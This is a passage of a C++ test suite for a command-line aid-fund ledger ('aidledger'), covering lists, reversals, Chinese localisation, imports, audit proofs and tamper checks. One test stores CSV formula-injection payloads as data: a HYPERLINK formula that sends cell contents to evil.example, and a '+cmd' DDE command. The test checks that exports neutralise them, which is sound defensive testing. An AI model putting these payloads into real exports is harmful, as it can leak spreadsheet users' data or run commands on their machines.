  EXPECT_THAT(Run({"progress", "--year", "2024"}).out,
              ::testing::HasSubstr("88.5%"));
  // Bad input: exit 3 naming the field, exit 2 for a bad query.
  RunResult zero = Run({"indicator", "--helper", "370200", "--recipient", "621100",
                        "--indicator", "people_trained", "--value", "0"});
  EXPECT_EQ(zero.exit_code, 3);
  EXPECT_THAT(zero.err, ::testing::HasSubstr("[FIELD_INVALID]"));
  EXPECT_THAT(zero.err, ::testing::HasSubstr("value: must be a whole number"));
  EXPECT_EQ(Run({"progress", "--year", "24"}).exit_code, 2);
  EXPECT_EQ(Run({"progress", "--year", "2024", "--recipient", "999999"}).exit_code, 2);
  // An indicator is reversed like money.
  MustRun({"reverse", "--target", "train", "--reason", "重复", "--date", "2024-08-01"});
  EXPECT_THAT(Run({"progress", "--year", "2024", "--format", "json"}).out,
              ::testing::HasSubstr("\"actual\":\"0\",\"completion_percent\":0.0"));
  EXPECT_EQ(Run({"verify"}).exit_code, 0);
}

// Issue 21: region list, pair list and project list show the master data
// with their dates and status, as of any point, as a table, JSON or CSV.
TEST_F(CliTest, MasterDataListsShowDatesAndStatusAsOfAPoint) {
  AddBasics();
  MustRun({"project", "add", "--project", "DX-1", "--region", "621100", "--name", "马铃薯",
           "--category", "industry", "--budget", "500万", "--date", "2021-02-01"});
  MustRun({"region", "amend", "--code", "621100", "--name", "定西市（更正）", "--reason", "x",
           "--date", "2022-01-01"});
  MustRun({"pair", "end", "--helper", "370200", "--recipient", "621100", "--reason", "协议期满",
           "--date", "2025-12-31"});
  const std::string kBom = "\xEF\xBB\xBF";
  EXPECT_EQ(Run({"region", "list", "--format", "csv", "--region", "620000"}).out,
            kBom +
                "code,name,parent_code,registered_on,amended_on\r\n"
                "620000,甘肃省,,2016-01-01,\r\n"
                "621100,定西市（更正）,620000,2016-01-01,2022-01-01\r\n");
  EXPECT_THAT(Run({"region", "list", "--format", "csv", "--as-of", "2021-12-31"}).out,
              ::testing::HasSubstr("621100,定西市,620000,2016-01-01,\r\n"));
  const std::string kPairHeader =
      "helper_code,helper_name,recipient_code,recipient_name,program,since,established_on,"
      "status,ended_on,end_reason\r\n";
  EXPECT_EQ(Run({"pair", "list", "--format", "csv"}).out,
            kBom + kPairHeader +
                "370200,青岛市,621100,定西市（更正）,east-west,2021-01-01,2021-01-01,ended,"
                "2025-12-31,协议期满\r\n");
  EXPECT_EQ(Run({"pair", "list", "--format", "csv", "--at-seq", "6"}).out,
            kBom + kPairHeader +
                "370200,青岛市,621100,定西市,east-west,2021-01-01,2021-01-01,in_force,,\r\n");
  EXPECT_EQ(Run({"pair", "list", "--format", "csv", "--region", "370000"}).out,
            Run({"pair", "list", "--format", "csv"}).out);
  EXPECT_EQ(Run({"project", "list", "--format", "csv", "--unit", "wan"}).out,
            kBom +
                "project_id,name,region_code,region_name,category,budget_wan,registered_on,"
                "amended_on\r\n"
                "DX-1,马铃薯,621100,定西市（更正）,industry,500.00,2021-02-01,\r\n");
  RunResult json = Run({"--format", "json", "pair", "list"});
  ASSERT_EQ(json.exit_code, 0) << json.err;
  EXPECT_THAT(json.out, ::testing::HasSubstr("\"status\":\"ended\",\"ended_on\":\"2025-12-31\""));
  RunResult table = Run({"region", "list"});
  EXPECT_THAT(table.out, ::testing::HasSubstr("  定西市（更正）"));
  EXPECT_THAT(table.out, ::testing::Not(::testing::HasSubstr("amounts in")));
  RunResult unknown = Run({"project", "list", "--region", "110000"});
  EXPECT_EQ(unknown.exit_code, 2);
  EXPECT_THAT(unknown.err, ::testing::HasSubstr("region 110000 is not registered at this point"));
}

// Issue 21: reverse --target takes back a registration nothing names; the
// lists lose it from the reversal on, keep it before, and verify agrees.
TEST_F(CliTest, AReversedRegistrationLeavesTheListsFromItsPointOn) {
  AddBasics();
  MustRun({"region", "add", "--code", "621126", "--name", "岷县", "--parent", "621100",
           "--date", "2020-01-01", "--event-id", "r-mx"});
  MustRun({"project", "add", "--project", "MX-1", "--region", "621126", "--name", "中药材",
           "--category", "industry", "--date", "2021-02-01", "--event-id", "p-mx"});
  RunResult named = Run({"reverse", "--target", "r-mx", "--reason", "录错", "--date", "2021-03-01"});
  EXPECT_EQ(named.exit_code, 3);
  EXPECT_THAT(named.err, ::testing::HasSubstr("[TARGET_REFERENCED]"));
  RunResult project = Run({"reverse", "--target", "p-mx", "--reason", "录错", "--date", "2021-03-01"});
  ASSERT_EQ(project.exit_code, 0) << project.err;
  const std::string kBom = "\xEF\xBB\xBF";
  const std::string kHeader =
      "project_id,name,region_code,region_name,category,budget_yuan,registered_on,amended_on\r\n";
  EXPECT_EQ(Run({"project", "list", "--format", "csv"}).out, kBom + kHeader);
  EXPECT_EQ(Run({"project", "list", "--format", "csv", "--as-of", "2021-02-28"}).out,
            kBom + kHeader + "MX-1,中药材,621126,岷县,industry,0.00,2021-02-01,\r\n");
  EXPECT_THAT(Run({"log"}).out, ::testing::HasSubstr("reverses p-mx"));
  RunResult disburse = Run({"disburse", "--project", "MX-1", "--amount", "1", "--date", "2021-04-01"});
  EXPECT_EQ(disburse.exit_code, 3);
  EXPECT_THAT(disburse.err, ::testing::HasSubstr("[PROJECT_NOT_FOUND]"));
  EXPECT_EQ(Run({"verify"}).exit_code, 0);
}

TEST_F(CliTest, BadPointsAreUsageErrors) {
  AddBasics();
  for (std::vector<std::string> args : std::vector<std::vector<std::string>>{
           {"balances", "--at-seq", "99"},
           {"balances", "--known-at", "yesterday"},
           {"balances", "--as-of", "2021-02-30"},
           {"balances", "--region", "999999"},
           {"balances", "--at-seq", "1", "--known-at", "2021-01-01T00:00:00Z"},
           {"projects", "--unit", "jin"},
           {"helpers", "--format", "jsonl"}}) {
    RunResult result = Run(args);
    EXPECT_EQ(result.exit_code, 2) << args[1] << ": " << result.err;
    EXPECT_EQ(std::count(result.err.begin(), result.err.end(), '\n'), 1) << result.err;
  }
}

TEST_F(CliTest, SnapshotsAreCreatedAndListed) {
  AddBasics();
  RunResult created = Run({"snapshot", "create"});
  ASSERT_EQ(created.exit_code, 0) << created.err;
  EXPECT_THAT(created.out, ::testing::StartsWith("snapshot stored at seq=5 "));
  RunResult listed = Run({"snapshot", "list"});
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  for (const char* name :
       {"region_balances", "project_totals", "helper_totals", "reversed_events", "region_months",
        "indicator_totals", "merkle"}) {
    EXPECT_THAT(listed.out, ::testing::HasSubstr(name));
  }
  // A header, then a row each, the fund view's parts on its manifest's
  // row: no money yet, so its delta holds the registrations alone.
  EXPECT_THAT(listed.out, ::testing::HasSubstr("fund_view +1 parts"));
  EXPECT_THAT(listed.out, ::testing::Not(::testing::HasSubstr("fund_view:registry")));
  EXPECT_EQ(std::count(listed.out.begin(), listed.out.end(), '\n'), 9);
  EXPECT_THAT(listed.out, ::testing::Not(::testing::HasSubstr("not trusted")));

  // Money, then another snapshot: a row more for each projection and one
  // for the new delta, whose part (甘肃省's) is folded into it.
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "100",
           "--date", "2021-06-01"});
  ASSERT_EQ(Run({"snapshot", "create"}).exit_code, 0);
  listed = Run({"snapshot", "list"});
  ASSERT_EQ(listed.exit_code, 0) << listed.err;
  EXPECT_EQ(std::count(listed.out.begin(), listed.out.end(), '\n'), 17) << listed.out;
  EXPECT_THAT(listed.out, ::testing::Not(::testing::HasSubstr("fund_view:")));
}

// A Chinese locale (or --lang zh) shows headers, summaries and the fields an
// error names in Chinese; reason codes and JSON names stay as they are, and
// --lang en wins over the locale.
TEST_F(CliTest, AChineseLocaleSpeaksChineseAndKeepsCodesAndJsonNames) {
  const std::vector<std::string> chinese = {"AIDLEDGER_ACTOR=clerk", "LANG=zh_CN.UTF-8"};
  RunResult init = RunAidledger({"--db", db_, "init"}, dir_.path(), chinese);
  ASSERT_EQ(init.exit_code, 0) << init.err;
  EXPECT_EQ(init.out, "已在 " + db_ + " 创建空账本\n");
  RunResult region = RunAidledger(
      {"--db", db_, "region", "add", "--code", "620000", "--name", "甘肃省", "--date", "2016-01-01"},
      dir_.path(), chinese);
  ASSERT_EQ(region.exit_code, 0) << region.err;
  EXPECT_THAT(region.out, ::testing::StartsWith("已记入 序号=1 事件编号="));

  const std::string csv = dir_.Sub("导入.csv");
  std::ofstream(csv) << "类型,事件编号,生效日期,地区代码,地区名称,上级地区代码,金额,项目所在地区代码\n"
                     << "region,r2,2016-01-01,621100,定西市,620000,,\n"
                     << "sale,s1,2022-01-01,,,,12.345,621100\n";
  RunResult bad = RunAidledger({"--db", db_, "import", csv}, dir_.path(), chinese);
  EXPECT_EQ(bad.exit_code, 3);
  EXPECT_THAT(bad.err, ::testing::HasSubstr(csv + ":3: 金额: "));
  EXPECT_THAT(bad.err, ::testing::HasSubstr("\naidledger: 已拒绝："));
  EXPECT_THAT(bad.err, ::testing::HasSubstr("[FIELD_INVALID]"));
  EXPECT_THAT(bad.out, ::testing::HasSubstr("导入：共 2 行，记入 0 条"));
  // The same file, the same error, in English when asked.
  RunResult english = RunAidledger({"--db", db_, "--lang", "en", "import", csv}, dir_.path(), chinese);
  EXPECT_THAT(english.err, ::testing::HasSubstr(csv + ":3: amount: "));
  EXPECT_THAT(english.out, ::testing::HasSubstr("rows=2 appended=0"));

  RunResult table = Run({"--lang", "zh", "balances"});
  ASSERT_EQ(table.exit_code, 0) << table.err;
  EXPECT_THAT(table.out, ::testing::HasSubstr("截至序号 1"));
  EXPECT_THAT(table.out, ::testing::HasSubstr("金额单位：元"));
  EXPECT_THAT(table.out, ::testing::ContainsRegex("代码 +地区 +拨付 +支出 +结余"));
  RunResult json = Run({"--lang", "zh", "--format", "json", "balances"});
  ASSERT_EQ(json.exit_code, 0) << json.err;
  EXPECT_THAT(json.out, ::testing::HasSubstr("\"allocated_fen\""));
  EXPECT_THAT(json.out, ::testing::Not(::testing::HasSubstr("拨付")));
  RunResult verified = Run({"--lang", "zh", "verify"});
  ASSERT_EQ(verified.exit_code, 0) << verified.err;
  EXPECT_THAT(verified.out, ::testing::StartsWith("已校验 1 条事件"));
  RunResult log = Run({"--lang", "zh", "log"});
  EXPECT_THAT(log.out, ::testing::ContainsRegex("序号 +日期 +类型 +事件编号 +内容"));
  // An integrity failure too: a ledger that does not reach a digest of this one.
  const std::string digest_file = dir_.Sub("digest.json");
  std::ofstream(digest_file) << Run({"digest"}).out;
  const std::string other = dir_.Sub("other");
  ASSERT_EQ(RunAidledger({"--db", other, "init"}, dir_.path()).exit_code, 0);
  RunResult dropped =
      RunAidledger({"--db", other, "verify", "--digest", digest_file}, dir_.path(), chinese);
  EXPECT_EQ(dropped.exit_code, 4);
  EXPECT_EQ(dropped.err, "aidledger: 完整性校验失败：日志只有 0 条事件，少于摘要中的 1 条（有事件被删除）\n");
  RunResult bad_lang = Run({"--lang", "fr", "balances"});
  EXPECT_EQ(bad_lang.exit_code, 2);
}

// --help in Chinese: no description of any command or flag is left in
// English (a line with a description, compared with the English help).
TEST_F(CliTest, EveryHelpDescriptionHasItsChinese) {
  const std::vector<std::vector<std::string>> commands = {
      {}, {"init"}, {"region"}, {"region", "add"}, {"region", "amend"}, {"region", "list"},
      {"pair"}, {"pair", "end"}, {"pair", "list"}, {"project"}, {"project", "add"},
      {"project", "amend"}, {"project", "list"}, {"allocate"}, {"disburse"}, {"invest"},
      {"sale"}, {"reverse"}, {"log"}, {"import"}, {"balances"}, {"projects"}, {"helpers"},
      {"snapshot"}, {"snapshot", "create"}, {"snapshot", "list"}, {"verify"}, {"digest"},
      {"proof"}, {"verify-proof"}, {"replay"}, {"restore"}, {"copy"}, {"serve"}, {"token"},
      {"token", "add"}, {"indicator"}, {"target"}, {"progress"}, {"indicators"},
      {"indicators", "list"}, {"daxie"}, {"keygen"}, {"report"}, {"report", "regions"},
      {"close"}, {"sign"}, {"verify-close"}};
  const std::regex described(R"(^\s+\S.*\S {2,}\S.*|^ {20,}\S.*)");
  for (const std::vector<std::string>& command : commands) {
    auto help = [&](const char* lang) {
      std::vector<std::string> args = {"--lang", lang};
      args.insert(args.end(), command.begin(), command.end());
      args.push_back("--help");
      RunResult result = RunAidledger(args, dir_.path());
      EXPECT_EQ(result.exit_code, 0) << absl::StrJoin(command, " ") << ": " << result.err;
      return std::vector<std::string>(absl::StrSplit(result.out, '\n'));
    };
    const std::vector<std::string> english = help("en");
    const std::set<std::string> english_lines(english.begin(), english.end());
    size_t descriptions = 0;
    for (const std::string& line : help("zh")) {
      if (!std::regex_match(line, described)) continue;
      ++descriptions;
      EXPECT_FALSE(english_lines.contains(line)) << absl::StrJoin(command, " ") << ": " << line;
    }
    EXPECT_GT(descriptions, 0u) << absl::StrJoin(command, " ");
  }
}

TEST_F(CliTest, ImportWritesNothingWhenOneRowIsBad) {
  Init();
  const std::string csv = dir_.Sub("events.csv");
  std::ofstream(csv) << "\xEF\xBB\xBFtype,event_id,effective_date,code,name,parent_code,amount,region_code\n"
                     << "region,r1,2016-01-01,620000,甘肃省,,,\n"
                     << "region,r2,2016-01-01,621100,定西市,620000,,\n"
                     << "sale,s1,2022-01-01,,,,12.345,621100\n"
                     << "sale,s2,2022-01-01,,,,\"1,000\",999999\n"
                     << "sale,s3,2022-01-01,,,,9238万,621100\n";
  RunResult bad = Run({"import", csv});
  EXPECT_EQ(bad.exit_code, 3);
  EXPECT_THAT(bad.err, ::testing::HasSubstr(csv + ":4: amount: is more precise than one fen"));
  EXPECT_THAT(bad.err, ::testing::HasSubstr(csv + ":5: region_code: region 999999 is not registered"));
  EXPECT_THAT(bad.out, ::testing::HasSubstr("appended=0"));
  EXPECT_EQ(Run({"log", "--format", "jsonl"}).out, "");
  // Fixed, it imports whole; again, it appends nothing.
  std::ofstream(csv) << "type,event_id,effective_date,code,name,parent_code,amount,region_code\n"
                     << "region,r1,2016-01-01,620000,甘肃省,,,\n"
                     << "region,r2,2016-01-01,621100,定西市,620000,,\n"
                     << "sale,s1,2022-01-01,,,,12.34,621100\n"
                     << "sale,s3,2022-01-01,,,,9238万,621100\n";
  RunResult good = Run({"import", csv});
  ASSERT_EQ(good.exit_code, 0) << good.err;
  EXPECT_THAT(good.out, ::testing::HasSubstr("rows=4 appended=4 duplicates=0 rejected=0"));
  RunResult again = Run({"import", csv, "--format", "json"});
  ASSERT_EQ(again.exit_code, 0) << again.err;
  EXPECT_THAT(again.out, ::testing::HasSubstr("\"appended\":0,\"duplicates\":4"));
}

TEST_F(CliTest, AnAuditorCanDigestVerifyProveReplayAndRestore) {
  AddBasics();
  MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "100",
           "--date", "2021-06-01"});
  RunResult digest = Run({"digest"});
  ASSERT_EQ(digest.exit_code, 0) << digest.err;
  EXPECT_THAT(digest.out, ::testing::MatchesRegex(
      "\\{\"seq\":\"6\",\"head_hash\":\"[0-9a-f]{64}\",\"merkle_root\":\"[0-9a-f]{64}\","
      "\"recorded_at\":\"[-0-9T:.+Z]+\"\\}\n"));
  const std::string digest_file = dir_.Sub("digest.json");
  std::ofstream(digest_file) << digest.out;
  MustRun({"sale", "--region", "621100", "--amount", "5", "--date", "2022-01-01"});
  RunResult verified = Run({"verify", "--digest", digest_file});
  ASSERT_EQ(verified.exit_code, 0) << verified.err;
  EXPECT_THAT(verified.out, ::testing::HasSubstr("verified 7 events"));
  EXPECT_THAT(verified.out, ::testing::HasSubstr("extends the digest at seq 6"));

  RunResult proof = Run({"proof", "--seq", "3", "--digest", digest_file});
  ASSERT_EQ(proof.exit_code, 0) << proof.err;
  const std::string proof_file = dir_.Sub("proof.json");
  std::ofstream(proof_file) << proof.out;
  RunResult held = RunAidledger({"verify-proof", proof_file}, dir_.path());  // no ledger needed
  EXPECT_EQ(held.exit_code, 0) << held.err;
  EXPECT_THAT(held.out, ::testing::StartsWith("the proof holds\n"));
  EXPECT_THAT(held.out, ::testing::HasSubstr("shows that event 3 is in the log of 6 events"));
  std::string forged = proof.out;
  forged.replace(forged.find("甘肃省"), std::string("甘肃省").size(), "陕西省");
  std::ofstream(proof_file) << forged;
  RunResult broken = RunAidledger({"verify-proof", proof_file}, dir_.path());
  EXPECT_EQ(broken.exit_code, 4);
  EXPECT_THAT(broken.err, ::testing::StartsWith("aidledger: integrity failure: the proof does not hold"));

  RunResult exported = Run({"replay", "--format", "jsonl"});
  ASSERT_EQ(exported.exit_code, 0) << exported.err;
  const std::string export_file = dir_.Sub("export.jsonl");
  std::ofstream(export_file) << exported.out;
  const std::string copy = dir_.Sub("copy");
  RunResult restored = RunAidledger({"restore", export_file, "--db", copy}, dir_.path());
  ASSERT_EQ(restored.exit_code, 0) << restored.err;
  RunResult copy_digest = RunAidledger({"digest", "--db", copy}, dir_.path());
  EXPECT_EQ(copy_digest.out, Run({"digest"}).out);
  RunResult csv = Run({"replay", "--format", "csv", "--type", "sale"});
  // With a byte-order mark, like the report CSVs, so that Excel reads it as UTF-8.
  EXPECT_THAT(csv.out, ::testing::StartsWith("\xEF\xBB\xBFtype,event_id,effective_date,code,name"));
  EXPECT_EQ(std::count(csv.out.begin(), csv.out.end(), '\n'), 2);
}

// Issue 17, item 12: names that spreadsheets run as formulas came out of
// balances, projects and replay CSV unchanged. They are neutralised, and
// an export imported again gives back the very names.
TEST_F(CliTest, CsvCellsThatSpreadsheetsWouldRunAreNeutralisedAndRoundTrip) {
  Init();
  const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
  MustRun({"region", "add", "--code", "620000", "--name", hyperlink, "--date", "2016-01-01"});
  MustRun({"region", "add", "--code", "621100", "--name", "+cmd|' /C calc'!A0", "--parent", "620000",
           "--date", "2016-01-01"});
  MustRun({"project", "add", "--project", "P-1", "--region", "621100", "--name", "@SUM(1+1)",
           "--category", "industry", "--budget", "100", "--date", "2016-01-01"});
  for (const std::vector<std::string>& args : std::vector<std::vector<std::string>>{
           {"--format", "csv", "balances"}, {"--format", "csv", "projects"}, {"replay", "--format", "csv"}}) {
    RunResult result = Run(args);
    ASSERT_EQ(result.exit_code, 0) << result.err;
    for (absl::string_view line : absl::StrSplit(result.out, '\n')) {
      for (absl::string_view cell : absl::StrSplit(line, ',')) {
        absl::string_view unquoted = absl::StripPrefix(cell, "\"");
        ASSERT_FALSE(!unquoted.empty() && (unquoted[0] == '=' || unquoted[0] == '+' || unquoted[0] == '@'))
            << args.back() << ": a cell a spreadsheet would run: " << cell;
      }
    }
  }
  EXPECT_THAT(Run({"--format", "csv", "balances"}).out, ::testing::HasSubstr("'+cmd|' /C calc'!A0"));
  RunResult exported = Run({"replay", "--format", "csv"});
  const std::string file = dir_.Sub("export.csv");
  std::ofstream(file) << exported.out;
  const std::string copy = dir_.Sub("copy");
  ASSERT_EQ(RunAidledger({"--db", copy, "init"}, dir_.path()).exit_code, 0);
  RunResult imported = RunAidledger({"--db", copy, "import", file}, dir_.path());
  ASSERT_EQ(imported.exit_code, 0) << imported.err;
  RunResult names = RunAidledger({"--db", copy, "--format", "json", "balances"}, dir_.path());
  EXPECT_THAT(names.out, ::testing::HasSubstr("\"name\":\"=HYPERLINK(\\\"http://evil.example/?x="));
  EXPECT_THAT(names.out, ::testing::HasSubstr("\"name\":\"+cmd|' /C calc'!A0\""));
}

// Issue 17, item 10: init into a directory holding other files mixed
// RocksDB's files with them.
TEST_F(CliTest, InitRefusesADirectoryThatHoldsOtherFiles) {
  std::filesystem::create_directories(db_);
  std::ofstream(db_ + "/notes.txt") << "not a ledger\n";
  RunResult result = Run({"init"});
  EXPECT_EQ(result.exit_code, 2);
  EXPECT_THAT(result.err, ::testing::HasSubstr("is not empty and holds no ledger"));
  EXPECT_FALSE(std::filesystem::exists(db_ + "/CURRENT"));
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(db_), std::filesystem::directory_iterator()), 1);
  std::filesystem::remove(db_ + "/notes.txt");
  Init();  // still fine on an empty directory, and again ("already exists")
  EXPECT_EQ(Run({"init"}).exit_code, 0);
}

// Issue 17, item 13: import errors printed raw ESC sequences from the file.
TEST_F(CliTest, ImportErrorsShowControlCharactersAsEscapes) {
  Init();
  const std::string file = dir_.Sub("bad.csv");
  std::ofstream(file) << "type,code,name\nbogus\x1b[2J,620000,x\nregion,620000,abc\xe2\x80\xaegnp\n";
  RunResult result = Run({"import", file});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_EQ(result.err.find('\x1b'), std::string::npos) << result.err;
  EXPECT_EQ(result.err.find("\xe2\x80\xae"), std::string::npos) << result.err;
  EXPECT_THAT(result.err, ::testing::HasSubstr("bogus\\x1b[2J"));
  EXPECT_THAT(result.err, ::testing::HasSubstr("(U+202E)"));
}

// The flag that reads past a spreadsheet's own columns takes them
// comma-separated; without it the file is refused (exit 3), naming them.
TEST_F(CliTest, ImportReadsPastTheColumnsGivenToIgnoreColumns) {
  Init();
  const std::string file = dir_.Sub("regions.csv");
  std::ofstream(file) << "类型,地区代码,地区名称,经办人,审核人\nregion,620000,甘肃省,王敏,李强\n";
  RunResult refused = Run({"import", file});
  EXPECT_EQ(refused.exit_code, 3) << refused.err;
  EXPECT_THAT(refused.err, ::testing::HasSubstr("add --ignore-columns 经办人,审核人"));
  RunResult imported = Run({"import", file, "--ignore-columns", "经办人,审核人"});
  EXPECT_EQ(imported.exit_code, 0) << imported.err;
  EXPECT_THAT(imported.out, ::testing::HasSubstr("appended=1"));
}

// Issue 17, item 9: a CSV read from a pipe lost its first bytes (the seek
// back after the byte-order-mark check), and a JSONL line was read whole
// before its limit was checked (/dev/zero reached 2.5 GB in 5 s).
TEST_F(CliTest, ImportReadsPipesWholeAndStopsAtTheLineLimit) {
  Init();
  const std::string fifo = dir_.Sub("events.csv");
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  std::thread writer([&] {
    std::ofstream out(fifo);
    out << "\xEF\xBB\xBFtype,code,name,parent_code\nregion,620000,甘肃省,\nregion,621100,定西市,620000\n";
  });
  RunResult piped = Run({"import", fifo});
  writer.join();
  EXPECT_EQ(piped.exit_code, 0) << piped.err;
  EXPECT_THAT(piped.out, ::testing::HasSubstr("appended=2"));
  RunResult zeros = Run({"import", "/dev/zero", "--input-format", "jsonl"});
  EXPECT_EQ(zeros.exit_code, 3) << zeros.err;
  EXPECT_THAT(zeros.err, ::testing::HasSubstr("/dev/zero:1: the line is longer than 262144 bytes"));
  // restore read a line whole before checking it, too (std::getline).
  RunResult restored = RunAidledger({"restore", "/dev/zero", "--db", dir_.Sub("copy")}, dir_.path());
  EXPECT_EQ(restored.exit_code, 4) << restored.err;
  EXPECT_THAT(restored.err, ::testing::HasSubstr("/dev/zero:1: the line is too long"));
  EXPECT_FALSE(std::filesystem::exists(dir_.Sub("copy")));
}

// Issue 21: the same sale typed twice by hand, without --event-id, within
// a day is refused naming the first; --allow-duplicate posts it.
TEST_F(CliTest, ASaleTypedTwiceIsRefusedUnlessAllowed) {
  AddBasics();
  const std::vector<std::string> sale = {"sale", "--region", "621100", "--amount", "88",
                                         "--date", "2024-03-05"};
  RunResult first = Run(sale);
  ASSERT_EQ(first.exit_code, 0) << first.err;
  const size_t at = first.out.find("seq=") + 4;
  const std::string seq = first.out.substr(at, first.out.find(' ', at) - at);
  std::vector<std::string> with_memo = sale;
  with_memo.insert(with_memo.end(), {"--memo", "again"});
  RunResult again = Run(with_memo);
  EXPECT_EQ(again.exit_code, 3);
  EXPECT_THAT(again.err, ::testing::HasSubstr("event_id: none given, and the same sale effective "
                                              "2024-03-05 was recorded at "));
  EXPECT_THAT(again.err, ::testing::HasSubstr(absl::StrCat(": seq ", seq, ", event_id ev-")));
  EXPECT_THAT(again.err, ::testing::HasSubstr("give it --event-id or --allow-duplicate "
                                              "[POSSIBLE_DUPLICATE]"));
  std::vector<std::string> allowed = sale;
  allowed.push_back("--allow-duplicate");
  RunResult posted = Run(allowed);
  EXPECT_EQ(posted.exit_code, 0) << posted.err;
  EXPECT_THAT(posted.out, ::testing::HasSubstr("appended seq="));
}

// Issue 21: the log table shows each event's id, memo and recording time
// (China time, or UTC with --utc); reverse takes --target seq:N; and
// --known-at takes a date, the end of that day in China.
TEST_F(CliTest, TheClerksLogReverseBySequenceAndKnownAtADate) {
  AddBasics();
  MustRun({"sale", "--region", "621100", "--amount", "12", "--date", "2024-03-05", "--event-id",
           "v-7", "--memo", "第7号凭证"});
  RunResult log = Run({"log"});
  ASSERT_EQ(log.exit_code, 0) << log.err;
  EXPECT_THAT(log.out, ::testing::HasSubstr("EVENT ID"));
  EXPECT_THAT(log.out, ::testing::ContainsRegex(
                           "sale +v-7 +621100 12.00 yuan +第7号凭证 +clerk +"
                           "[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9]{2}:[0-9]{2}:[0-9]{2} \\+08:00"));
  RunResult utc = Run({"--utc", "log"});
  EXPECT_THAT(utc.out, ::testing::ContainsRegex("第7号凭证 +clerk +[0-9-]{10} [0-9:]{8} UTC"));
  const std::string jsonl = Run({"log", "--format", "jsonl"}).out;
  const std::string seq = absl::StrCat(std::count(jsonl.begin(), jsonl.end(), '\n'));
  RunResult reversed = Run({"reverse", "--target", "seq:" + seq, "--reason", "录入错误"});
  ASSERT_EQ(reversed.exit_code, 0) << reversed.err;
  EXPECT_THAT(Run({"log"}).out, ::testing::HasSubstr("reverses v-7 (seq " + seq + "): 录入错误"));
  RunResult missing = Run({"reverse", "--target", "seq:999", "--reason", "x"});
  EXPECT_EQ(missing.exit_code, 3);
  EXPECT_THAT(missing.err, ::testing::HasSubstr("seq:999: there is no event at seq 999"));
  // An event_id that reads as a sequence and is another event: ambiguous.
  MustRun({"sale", "--region", "621100", "--amount", "3", "--date", "2024-03-05", "--event-id",
           "seq:1"});
  RunResult ambiguous = Run({"reverse", "--target", "seq:1", "--reason", "x"});
  EXPECT_EQ(ambiguous.exit_code, 3);
  EXPECT_THAT(ambiguous.err, ::testing::HasSubstr("seq:1 is both the event at seq 1 and the "
                                                  "event_id of seq "));
  // Everything was recorded today: known at the end of 2000-01-01, nothing.
  RunResult known = Run({"balances", "--known-at", "2000-01-01"});
  ASSERT_EQ(known.exit_code, 0) << known.err;
  EXPECT_THAT(known.out, ::testing::StartsWith("at seq 0, as known at 2000-01-01 23:59:59 +08:00;"));
  RunResult known_utc = Run({"--utc", "balances", "--known-at", "2000/1/1"});
  EXPECT_THAT(known_utc.out, ::testing::StartsWith("at seq 0, as known at 2000-01-01 15:59:59 UTC;"));
  RunResult today = Run({"balances", "--known-at", "2099-12-31"});
  EXPECT_THAT(today.out, ::testing::StartsWith(absl::StrCat("at seq ", std::stoi(seq) + 2, " ")));
}

TEST_F(CliTest, AnEventDatedAfterTodayInChinaIsRejected) {
  AddBasics();
  RunResult result = Run({"sale", "--region", "621100", "--amount", "1", "--date", "2030-07-01"});
  EXPECT_EQ(result.exit_code, 3);
  EXPECT_THAT(result.err, ::testing::HasSubstr("effective_date: 2030-07-01 is after today in China"));
  EXPECT_THAT(result.err, ::testing::HasSubstr("[FUTURE_DATE]"));
}

// Issue 17 item 2: the indexes beside the log are files anyone with access
// can edit; validation must not take their word for what the log holds.
class CliIndexTamperTest : public CliTest {
 protected:
  void SetUp() override {
    AddBasics();
    MustRun({"allocate", "--helper", "370200", "--recipient", "621100", "--amount", "2000000",
             "--date", "2021-06-01", "--event-id", "a-1"});  // event 6
  }
  // The next append's sequence: proof of how many events the log holds.
  std::string NextAppend() {
    RunResult sale = Run({"sale", "--region", "621100", "--amount", "1", "--date", "2022-01-01"});
    EXPECT_EQ(sale.exit_code, 0) << sale.err;
    return sale.out.substr(0, sale.out.find(" event_id="));
  }
};

TEST_F(CliIndexTamperTest, ADeletedReversalIndexEntryDoesNotLetAnEventBeReversedTwice) {
  MustRun({"reverse", "--target", "a-1", "--reason", "entered twice", "--date", "2021-06-02"});
  ASSERT_THAT(testing::RocksDbDelete(db_, "reversals", "a-1"), IsOk());

  RunResult again = Run({"reverse", "--target", "a-1", "--reason", "again", "--date", "2021-06-02"});
  EXPECT_EQ(again.exit_code, 3) << again.out;
  EXPECT_THAT(again.err, ::testing::HasSubstr("event 6 is already reversed"));
  EXPECT_THAT(again.err, ::testing::HasSubstr("[TARGET_ALREADY_REVERSED]"));
  EXPECT_EQ(NextAppend(), "appended seq=8");
  RunResult verify = Run({"verify"});
  EXPECT_EQ(verify.exit_code, 4);
  EXPECT_THAT(verify.err, ::testing::HasSubstr("event 7: the reversal index does not name this reversal"));
}

TEST_F(CliIndexTamperTest, ADeletedEventIdIndexEntryMakesTheWriterRefuseWithExitFour) {
  ASSERT_THAT(testing::RocksDbDelete(db_, "event_ids", "a-1"), IsOk());
  const std::string lost = "event 6 has event_id a-1 but the event_id index has no entry for it";
  // A retry of the same request would be appended a second time.
  RunResult retry = Run({"allocate", "--helper", "370200", "--recipient", "621100", "--amount",
                         "2000000", "--date", "2021-06-01", "--event-id", "a-1"});
  EXPECT_EQ(retry.exit_code, 4) << retry.out;
  EXPECT_THAT(retry.err, ::testing::HasSubstr(lost));
  // A reversal of it would be refused as aimed at nothing.
  RunResult reverse = Run({"reverse", "--target", "a-1", "--reason", "x", "--date", "2021-06-02"});
  EXPECT_EQ(reverse.exit_code, 4) << reverse.out;
  EXPECT_THAT(reverse.err, ::testing::HasSubstr(lost));
  // So does an import or an HTTP batch: the same write path.
  const std::string jsonl = dir_.Sub("retry.jsonl");
  std::ofstream(jsonl) << R"({"event_id":"a-1","effective_date":"2021-06-01","funds_allocated":)"
                       << R"({"helper_code":"370200","recipient_code":"621100","amount_fen":"200000000"}})"
                       << "\n";
  RunResult import = Run({"import", jsonl, "--input-format", "jsonl"});
  EXPECT_EQ(import.exit_code, 4) << import.out;
  EXPECT_THAT(import.err, ::testing::HasSubstr(lost));
  // Nothing of that was appended; events with new ids still are.
